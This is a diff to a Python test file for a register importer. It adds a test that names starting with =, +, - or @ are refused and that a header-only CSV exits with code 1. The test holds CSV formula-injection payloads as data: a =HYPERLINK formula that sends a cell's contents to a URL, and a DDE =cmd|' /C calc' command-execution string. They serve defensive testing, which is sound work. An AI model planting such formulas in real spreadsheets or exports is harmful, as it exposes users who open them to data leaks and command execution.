@@ -5,11 +5,21 @@ from pathlib import Path
 
 import pytest
 from python_calamine import CalamineWorkbook
+from sqlalchemy import select
 
 import main
 from models.db.database import Database
+from models.schema import Person
 from tests.support.factories import make_place
-from tests.support.registers import address_csv, fifty_doors, good_lines, register_counts, register_csv, titled_csv
+from tests.support.registers import (
+    HEADER,
+    address_csv,
+    fifty_doors,
+    good_lines,
+    register_counts,
+    register_csv,
+    titled_csv,
+)
 
 
 def _setup(database: Database) -> None:
@@ -117,3 +127,36 @@ def test_the_header_row_can_be_named(database: Database, database_url: str, tmp_
     assert main.run(["--lang", "en", "--db", database_url, "import", str(path),
                      "--header-row", "99"]) == 2
     assert "no row 99" in capsys.readouterr().err
+
+
+def test_formula_names_are_refused_per_row_and_a_header_only_file_is_exit_1(
+        database: Database, database_url: str, tmp_path: Path,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """Issue 21: names like =HYPERLINK(…) were imported (and exported to run in Excel); a
+    header-only file "imported" 0 rows with exit 0."""
+    _setup(database)
+    formulas = ['=HYPERLINK("http://x/?"&C2,"点击")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]
+    lines = good_lines(5)
+    lines[1:4] = [line.replace(line.split(",")[0], name, 1)
+                  for line, name in zip(lines[1:4], formulas, strict=True)]
+    path = register_csv(tmp_path / "formulas.csv", lines, "utf-8")
+    before = register_counts(database)
+    assert main.run(["--lang", "en", "--db", database_url, "import", str(path)]) == 1
+    out = capsys.readouterr().out
+    assert out.count("A name cannot begin with = + - or @") == 3
+    assert register_counts(database) == before
+    assert main.run(["--lang", "en", "--db", database_url, "import", str(path),
+                     "--skip-invalid"]) == 0
+    assert "2 persons" in capsys.readouterr().out
+    with database.sessions() as session:
+        names = set(session.scalars(select(Person.name)))
+    assert not any(name[0] in "=+-@" for name in names)
+
+    header_only = tmp_path / "header.csv"
+    header_only.write_text(HEADER + "\r\n", encoding="utf-8")
+    counts = register_counts(database)
+    assert main.run(["--lang", "en", "--db", database_url, "import", str(header_only)]) == 1
+    captured = capsys.readouterr()
+    assert captured.err == ("canvass: The file has column names on row 1 but no rows under "
+                            "them: nothing was imported.\n")
+    assert register_counts(database) == counts
